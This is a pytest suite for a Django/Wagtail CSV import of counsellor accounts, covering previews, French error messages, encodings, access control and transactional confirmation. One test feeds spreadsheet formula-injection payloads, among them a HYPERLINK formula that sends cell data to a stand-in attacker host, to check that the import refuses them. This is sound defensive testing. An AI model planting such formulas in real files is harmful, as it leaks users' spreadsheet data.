"""« Importer des conseillers »: a CSV file, its preview, then all or nothing."""

import codecs
import html
import io
import os
import time
import tracemalloc
from pathlib import Path

from django.core import mail
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse

from wagtail.models import ModelLogEntry

import pytest
from django_tasks import default_task_backend

from tests.access.matrix import ROLES, outcome
from users.import_views import SESSION_KEY
from users.imports import MAX_ROWS, preview
from users.models import User

INDEX = "/admin/conseillers/"
UPLOAD = "/admin/conseillers/importer/"
CONFIRM = "/admin/conseillers/importer/confirmer/"
TEMPLATE = "/admin/conseillers/importer/modele.csv"
HEADER = "identifiant;courriel;prénom;nom;DABM;référent"
ADMIN_EMAIL = "admin.montpellier@exemple.fr"
DUMMY_TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}


def csv_file(*lines, header=HEADER, encoding="utf-8", name="conseillers.csv"):
    text = "\r\n".join([header, *lines]) + "\r\n" if header is not None else ""
    if header is None:
        text = "\r\n".join(lines)
    return SimpleUploadedFile(name, text.encode(encoding), "text/csv")


def good_lines():
    return [
        "anne.martin;anne.martin@exemple.fr;Anne;Martin;Lunel;non",
        "paul.roux;paul.roux@exemple.fr;Paul;Roux;Sète;oui",
    ]


def upload(client, file, **data):
    return client.post(UPLOAD, {"fichier": file, **data})


def page(response):
    """The page's text as a person reads it (HTML entities decoded)."""
    return html.unescape(response.content.decode())


def imported():
    return User.objects.filter(username__in=["anne.martin", "paul.roux"])


def invitations():
    """The e-mails sent to the imported conseillers (not the administrator's)."""
    return sorted(
        m.to[0] for m in mail.outbox if m.to[0] != "admin.montpellier@exemple.fr"
    )


def summaries():
    return [m for m in mail.outbox if m.to == [ADMIN_EMAIL]]


# --- The way in -----------------------------------------------------------------


def test_listing_has_the_import_button_next_to_add(client_as):
    content = page(client_as("admin").get(INDEX))
    assert "Ajouter un conseiller" in content
    assert "Importer des conseillers" in content
    assert reverse("users_import_conseillers") in content


def test_form_has_the_file_field_and_the_template_link(client_as):
    response = client_as("admin").get(UPLOAD)
    content = page(response)
    assert response.status_code == 200
    assert "Fichier CSV" in content
    assert "Télécharger le modèle CSV" in content
    assert 'name="academie"' not in content  # an administrator's own académie


def test_template_is_the_header_and_one_example_row_of_the_academie(client_as):
    response = client_as("admin").get(TEMPLATE)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads the accents
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == HEADER
    assert len(lines) == 2
    assert lines[1].split(";")[4] in ("Lunel", "Sète")


@pytest.mark.parametrize("who", ["conseiller", "referent", "candidat"])
def test_only_administrators_reach_the_import(client_as, who):
    """Without the admin, the login page; a référent (the admin for pages) is
    sent back to the admin's home, as Wagtail answers a PermissionDenied."""
    client = client_as(who)
    for url in (UPLOAD, TEMPLATE):
        response = client.get(url)
        assert response.status_code in (302, 403, 404), (who, url)
        if response.status_code == 302:
            assert not response["Location"].startswith(UPLOAD)
    response = client.post(UPLOAD, {"fichier": csv_file(*good_lines())})
    assert response.status_code in (302, 403, 404)
    response = client.post(CONFIRM, {"token": "x"})
    assert response.status_code in (302, 403, 404)
    assert not imported().exists()


def test_referent_is_told_the_screen_is_not_theirs(client_as):
    response = client_as("referent").get(UPLOAD, follow=True)
    assert response.redirect_chain[-1][0] == "/admin/"
    assert "Importer des conseillers" not in page(response)


# --- The preview ------------------------------------------------------------------


def test_good_file_is_previewed_and_nothing_is_created(client_as):
    response = upload(client_as("admin"), csv_file(*good_lines()))
    content = page(response)
    assert response.status_code == 200
    assert "Le fichier compte 2 conseillers pour l'académie Montpellier" in content
    assert "Importer les 2 conseillers" in content
    assert "anne.martin@exemple.fr" in content and "Sète" in content
    assert not imported().exists()
    assert mail.outbox == []


def test_preview_says_each_rows_errors_in_french(client_as, world):
    lines = [
        "anne.martin;anne.martin@exemple.fr;Anne;Martin;Lunel;non",
        "anne.martin;autre@exemple.fr;Anne;Bis;Lunel;non",  # identifiant twice
        "paul.roux;ANNE.MARTIN@exemple.fr;Paul;Roux;Sète;oui",  # address twice
        f"{world.conseiller.username};x1@exemple.fr;Jean;Dupont;Lunel;non",
        f"nouveau;{world.conseiller.email.upper()};Jean;Dupont;Lunel;non",
        "jean.d;pas-une-adresse;Jean;Dupont;Lunel;non",
        "jean.e;jean.e@exemple.fr;;Dupont;Lunel;non",
        "jean.f;jean.f@exemple.fr;Jean;Dupont;Toulouse;non",  # another académie's
        "jean.g;jean.g@exemple.fr;Jean;Dupont;Lunel;peut-être",
        "jean h;jean.h@exemple.fr;Jean;Dupont;Lunel;non",
        "jean.i;jean.i@exemple.fr;Jean;Dupont;Lunel;non;en trop",
    ]
    response = upload(client_as("admin"), csv_file(*lines))
    content = page(response)
    assert response.status_code == 400
    assert "10 lignes sur 11 ont des erreurs : aucun conseiller n'a été créé" in (
        content
    )
    for message in [
        "Identifiant déjà présent(e) à la ligne 2 du fichier.",
        "Adresse électronique déjà présent(e) à la ligne 2 du fichier.",
        "Cet identifiant est déjà utilisé par un autre compte.",
        "Cette adresse électronique est déjà utilisée par un autre compte.",
        "courriel : adresse électronique invalide.",
        "prénom : valeur manquante.",
        "DABM inconnu dans l'académie Montpellier : choisissez parmi Lunel, Sète.",
        "référent : indiquez oui ou non.",
        "identifiant : lettres, chiffres et les caractères @ . + - _ uniquement",
        "La ligne compte 7 valeurs pour 6 colonnes.",
    ]:
        assert message in content, message
    assert "Importer les" not in content  # no confirm button
    assert not User.objects.filter(username__startswith="jean").exists()
    assert not imported().exists()


def test_superuser_chooses_the_academie(client_as, world):
    client = client_as("superuser")
    assert 'name="academie"' in page(client.get(UPLOAD))
    lines = ["jean.t;jean.t@exemple.fr;Jean;Tarn;Toulouse;non"]
    response = upload(client, csv_file(*lines))
    assert response.status_code == 400  # no académie chosen
    response = upload(client, csv_file(*lines), academie=world.toulouse.pk)
    assert response.status_code == 200
    response = upload(client, csv_file(*lines), academie=world.montpellier.pk)
    assert "DABM inconnu dans l'académie Montpellier" in page(response)


def test_typed_spellings_of_the_header_and_values_are_accepted(client_as):
    file = csv_file(
        "anne.martin,anne.martin@exemple.fr,Anne,Martin,lunel,Non",
        "paul.roux,paul.roux@exemple.fr,Paul,Roux,SETE,OUI",
        ",,,,,",  # a blank row, as spreadsheets leave at the end
        header="Identifiant,E-mail,Prenom,Nom,dabm,Referent",
    )
    response = upload(client_as("admin"), file)
    assert response.status_code == 200, page(response)
    assert "Importer les 2 conseillers" in page(response)


# --- Hostile and broken files -----------------------------------------------------


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://pirate.example/?x="&A1;"clic")', "+1+1", "-2+3", "@SUM(A1)"],
)
def test_formulas_are_refused_and_never_echoed(client_as, formula):
    cell = '"' + formula.replace('"', '""') + '"'
    file = csv_file(f"anne.martin;anne.martin@exemple.fr;{cell};Martin;Lunel;non")
    response = upload(client_as("admin"), file)
    content = page(response)
    assert response.status_code == 400
    assert "prénom : une valeur ne peut pas commencer par =, +, - ou @" in content
    assert "HYPERLINK" not in content and "SUM(" not in content
    assert not imported().exists()


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("cp1252", b""), ("utf-16", b"")],
)
def test_encodings_excel_writes_are_read(client_as, encoding, bom):
    lines = ["hélène.bé;helene@exemple.fr;Hélène;Bérard;Sète;oui"]
    text = "\r\n".join([HEADER, *lines]) + "\r\n"
    file = SimpleUploadedFile("c.csv", bom + text.encode(encoding), "text/csv")
    response = upload(client_as("admin"), file)
    content = page(response)
    assert response.status_code == 200, content
    assert "Hélène" in content and "Bérard" in content and "Sète" in content


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Le fichier soumis est vide."),
        (b"\r\n\r\n", "Le fichier est vide."),
        (HEADER.encode() + b"\r\n", "Le fichier ne contient aucun conseiller"),
        (b"PK\x03\x04" + bytes(range(256)) * 8, "Ce fichier est un classeur Excel"),
        (bytes(range(256)) * 16, "Ce fichier n'est pas un fichier texte CSV"),
        (
            b"identifiant;courriel\x81;pr\x8dnom;nom;DABM;r\x90f\x9drent\r\n",
            "L'encodage du fichier n'est pas reconnu",
        ),
        (
            codecs.BOM_UTF16_LE + HEADER.encode("utf-16-le") + b"\x00\xd8",
            "L'encodage du fichier n'est pas reconnu",
        ),
        (
            (HEADER + "\r\n").encode() + bytes(range(1, 256)) * 64,
            "L'encodage du fichier n'est pas reconnu",
        ),
        (
            "identifiant;courriel;prenon;nom;référent\r\na;b;c;d;e\r\n".encode(),
            "Colonnes manquante(s) : prénom, DABM ; inconnue(s) : « prenon »",
        ),
        (
            b"anne.martin;anne.martin@exemple.fr;Anne;Martin;Lunel;non\r\n",
            "La première ligne du fichier doit nommer les colonnes identifiant",
        ),
        (
            "identifiant|courriel|prénom|nom|DABM|référent\r\n".encode(),
            "séparées par des points-virgules (;) ou des virgules (,)",
        ),
        (
            (HEADER + '\r\n"a;b\r\n').encode() + b"x" * 200_000,
            "Le fichier n'est pas un CSV lisible",
        ),
    ],
)
def test_broken_files_are_refused_with_a_french_message(client_as, content, message):
    file = SimpleUploadedFile("c.csv", content, "text/csv")
    response = upload(client_as("admin"), file)
    assert response.status_code == 400
    assert message in page(response), page(response)
    assert "Vérifier le fichier" in page(response)  # the form, to try again


def test_a_file_that_is_not_csv_by_its_name_is_refused(client_as):
    file = SimpleUploadedFile("c.xlsx", b"PK\x03\x04", "application/octet-stream")
    response = upload(client_as("admin"), file)
    assert response.status_code == 400
    assert "Le fichier doit être un fichier CSV (extension .csv)" in page(response)


def test_a_file_too_heavy_is_refused(client_as, settings):
    big = (HEADER + "\r\n").encode() + b"x" * (2 * 1024 * 1024)
    response = upload(client_as("admin"), SimpleUploadedFile("c.csv", big))
    assert response.status_code == 400
    assert "Le fichier est trop lourd" in page(response)


def test_no_file_at_all_is_a_400_with_a_message(client_as):
    response = client_as("admin").post(UPLOAD, {})
    assert response.status_code == 400
    assert "Choisissez le fichier CSV à importer." in page(response)


def rows(count, start=0):
    return [
        f"c{n};c{n}@exemple.fr;Prénom{n};Nom{n};Lunel;non"
        for n in range(start, start + count)
    ]


def test_more_than_the_maximum_of_rows_is_refused(client_as):
    response = upload(client_as("admin"), csv_file(*rows(MAX_ROWS + 1)))
    assert response.status_code == 400
    assert "Le fichier compte plus de 10\u202f000 conseillers" in page(response)


def test_ten_thousand_rows_preview_in_flat_memory(world):
    """Checking 10,000 rows holds a few rows and the sets of identifiants and
    addresses, not the file: the peak stays far below what the rows would
    take if all were kept."""
    data = ("\r\n".join([HEADER, *rows(MAX_ROWS)]) + "\r\n").encode()
    small = ("\r\n".join([HEADER, *rows(1000)]) + "\r\n").encode()

    def peak(content):
        tracemalloc.start()
        result = preview(io.BytesIO(content), world.montpellier)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return result, peak

    result, big_peak = peak(data)
    assert result.is_valid and result.total == MAX_ROWS
    assert len(result.rows) == 200 and not result.all_rows_shown
    _result, small_peak = peak(small)
    # Ten times the rows, well under ten times the memory (the sets of seen
    # identifiants and addresses grow; the rows do not).
    assert big_peak < 4 * small_peak, (big_peak, small_peak)
    assert big_peak < 8 * 1024 * 1024


def test_ten_thousand_rows_preview_shows_only_rows_in_error(client_as):
    lines = rows(MAX_ROWS)
    lines[5000] = "c5000;c5000@exemple.fr;Prénom;Nom;Inconnu;non"
    response = upload(client_as("admin"), csv_file(*lines))
    content = page(response)
    assert response.status_code == 400
    assert "1 ligne sur 10000 a une erreur" in content
    assert "Seules les lignes en erreur sont affichées" in content
    assert "c5000@exemple.fr" in content and "c4999@exemple.fr" not in content


# --- Confirming -------------------------------------------------------------------


def test_confirm_creates_all_with_invitations_and_journal(
    client_as, world, django_capture_on_commit_callbacks
):
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    pending = client.session[SESSION_KEY]
    assert storages["private"].exists(pending["name"])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(CONFIRM, {"token": pending["token"]}, follow=True)
    content = page(response)
    assert response.redirect_chain[-1][0] == INDEX
    assert (
        "2 conseillers ont été importés : chacun a reçu un courriel pour choisir "
        "son mot de passe." in content
    )
    assert "anne.martin@exemple.fr" in content  # listed
    anne, paul = imported().order_by("username")
    assert anne.role == paul.role == User.Role.CONSEILLER
    assert anne.academie == world.montpellier and anne.dabm == world.lunel
    assert paul.dabm == world.sete and paul.is_referent and not anne.is_referent
    assert not anne.has_usable_password()
    assert invitations() == ["anne.martin@exemple.fr", "paul.roux@exemple.fr"]
    # The administrator is told too (the e-mail a background import relies on).
    (summary,) = summaries()
    assert summary.subject == "Import terminé : 2 conseillers créés"
    assert "http://testserver/admin/conseillers/" in summary.body
    for user in (anne, paul):
        entry = ModelLogEntry.objects.get(object_id=str(user.pk))
        assert entry.action == "wagtail.create" and entry.user == world.admin
    # The file waited in the private storage and is gone.
    assert not storages["private"].exists(pending["name"])
    assert SESSION_KEY not in client.session


def test_confirm_twice_creates_nothing_more(
    client_as, django_capture_on_commit_callbacks
):
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    token = client.session[SESSION_KEY]["token"]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(CONFIRM, {"token": token})
        response = client.post(CONFIRM, {"token": token})
    assert response.status_code == 400
    assert "Cet aperçu n'est plus valable" in page(response)
    assert imported().count() == 2
    assert len(invitations()) == 2 and len(summaries()) == 1


def test_confirm_without_the_right_token_is_refused(client_as, world):
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    response = client.post(CONFIRM, {"token": "autre"})
    assert response.status_code == 400
    assert not imported().exists()
    # Another administrator's session never sees this file.
    other = client_as("admin_toulouse")
    assert other.post(CONFIRM, {"token": "autre"}).status_code == 400


def test_confirm_checks_again_and_creates_nothing_if_a_row_became_wrong(
    client_as, django_capture_on_commit_callbacks
):
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    token = client.session[SESSION_KEY]["token"]
    # Meanwhile, someone takes Paul's address.
    User.objects.create(username="intrus", email="Paul.Roux@exemple.fr")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(CONFIRM, {"token": token})
    content = page(response)
    assert response.status_code == 400
    assert (
        "Depuis l'aperçu, des comptes ont changé : 1 ligne a maintenant une erreur "
        "et aucun conseiller n'a été créé." in content
    )
    assert "Vérifier le fichier" in content  # to send it again and see the row
    assert not imported().exists()
    assert invitations() == []
    (summary,) = summaries()
    assert summary.subject == "Import des conseillers : aucun conseiller créé"


@pytest.fixture
def failing_insert(db):
    """The database refuses the insert of the identifiant « boum », as it would a
    row another request wrote a moment before (a unique violation)."""
    table = User._meta.db_table
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute(
                "CREATE FUNCTION refuse_boum() RETURNS trigger AS $$ BEGIN "
                "IF NEW.username = 'boum' THEN RAISE unique_violation; END IF; "
                "RETURN NEW; END $$ LANGUAGE plpgsql"
            )
            cursor.execute(
                f"CREATE TRIGGER refuse_boum BEFORE INSERT ON {table} "
                "FOR EACH ROW EXECUTE FUNCTION refuse_boum()"
            )
        else:
            cursor.execute(
                f"CREATE TRIGGER refuse_boum BEFORE INSERT ON {table} "
                "WHEN NEW.username = 'boum' BEGIN SELECT RAISE(ABORT, 'boum'); END"
            )


def test_a_database_error_at_confirm_creates_nothing(
    client_as, failing_insert, django_capture_on_commit_callbacks
):
    client = client_as("admin")
    lines = [*good_lines(), "boum;boum@exemple.fr;Boum;Boum;Lunel;non"]
    upload(client, csv_file(*lines))
    token = client.session[SESSION_KEY]["token"]
    pending_name = client.session[SESSION_KEY]["name"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(CONFIRM, {"token": token})
    assert response.status_code == 409
    assert "L'import a échoué : aucun conseiller n'a été créé." in page(response)
    assert not imported().exists()
    assert not ModelLogEntry.objects.filter(action="wagtail.create").exists()
    assert invitations() == []
    assert "L'import a échoué" in summaries()[0].body
    assert not storages["private"].exists(pending_name)


def test_preview_asks_the_database_per_chunk_of_rows_not_per_row(
    client_as, django_assert_max_num_queries
):
    client = client_as("admin")
    client.get(UPLOAD)
    with django_assert_max_num_queries(20) as few:
        upload(client, csv_file(*rows(10)))
    # 1,000 rows are two chunks: two more queries (identifiants, addresses).
    with django_assert_max_num_queries(len(few.captured_queries) + 2):
        upload(client, csv_file(*rows(1000)))


def test_files_of_previews_never_confirmed_are_deleted_after_a_day(client_as):
    storage = storages["private"]
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    old = client.session[SESSION_KEY]["name"]
    path = Path(storage.path(old))
    day_and_more = time.time() - 25 * 3600
    os.utime(path, (day_and_more, day_and_more))
    # Another administrator's preview, later, sweeps it away; theirs stays.
    other = Client()
    other.force_login(User.objects.get(username="admin.toulouse"))
    upload(other, csv_file("x.t;x.t@exemple.fr;X;T;Toulouse;non"))
    assert not storage.exists(old)
    assert storage.exists(other.session[SESSION_KEY]["name"])


def test_with_a_worker_the_import_runs_in_the_background(
    client_as, settings, django_capture_on_commit_callbacks
):
    """10,000 accounts take longer than a request may last: with the worker's
    backend the confirmation hands the file to a task and says so."""
    settings.TASKS = DUMMY_TASKS
    client = client_as("admin")
    upload(client, csv_file(*good_lines()))
    pending = client.session[SESSION_KEY]
    response = client.post(CONFIRM, {"token": pending["token"]}, follow=True)
    assert response.redirect_chain[-1][0] == INDEX
    assert "L'import est lancé : vous recevrez un courriel quand il sera terminé" in (
        page(response)
    )
    assert not imported().exists()
    assert storages["private"].exists(pending["name"])  # the task's now
    (result,) = [
        r for r in default_task_backend.results if r.task.name == "import_pending_file"
    ]
    # What the worker then runs:
    with django_capture_on_commit_callbacks(execute=True):
        outcome = result.task.call(*result.args, **result.kwargs)
    assert outcome == {"created": 2}
    assert imported().count() == 2
    # The invitations and the administrator's e-mail are tasks too.
    sent_to = sorted(
        r.kwargs["to"][0]
        for r in default_task_backend.results
        if r.task.name == "send_email"
    )
    assert sent_to == [ADMIN_EMAIL, "anne.martin@exemple.fr", "paul.roux@exemple.fr"]
    assert not storages["private"].exists(pending["name"])


#: As tests/access/test_matrix.py writes them (L: login page; A: Wagtail's
#: refusal, back to the admin's home), for its ROLES.
MATRIX = {
    ("get", UPLOAD, None): "L   403 403 403 403 A   200 200 200",
    ("get", TEMPLATE, None): "L   403 403 403 403 A   200 200 200",
    ("post", CONFIRM, (("token", "x"),)): "L   403 403 403 403 A   400 400 400",
}


@pytest.mark.parametrize(("request_", "row"), list(MATRIX.items()))
def test_access_matrix_rows(client, world, request_, row):
    method, path, data = request_
    expected = [
        {"L": "login", "A": "admin"}.get(cell, int(cell) if cell.isdigit() else cell)
        for cell in row.split()
    ]
    actual = []
    for role in ROLES:
        client.logout()
        if role != "anonymous":
            client.force_login(getattr(world, role))
        actual.append(outcome(getattr(client, method)(path, dict(data or {}))))
    assert dict(zip(ROLES, actual, strict=True)) == dict(
        zip(ROLES, expected, strict=True)
    )
    assert not imported().exists()
